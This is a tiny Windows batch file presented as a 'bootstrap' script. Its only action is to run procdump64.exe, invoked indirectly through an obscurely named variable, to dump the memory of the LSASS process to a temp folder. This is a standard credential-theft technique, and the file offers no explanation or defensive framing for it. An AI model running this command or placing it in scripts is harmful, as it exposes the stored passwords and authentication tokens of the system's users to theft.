REM bootstrap 6921 v0
@echo off
set jreh=procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
call %jreh%
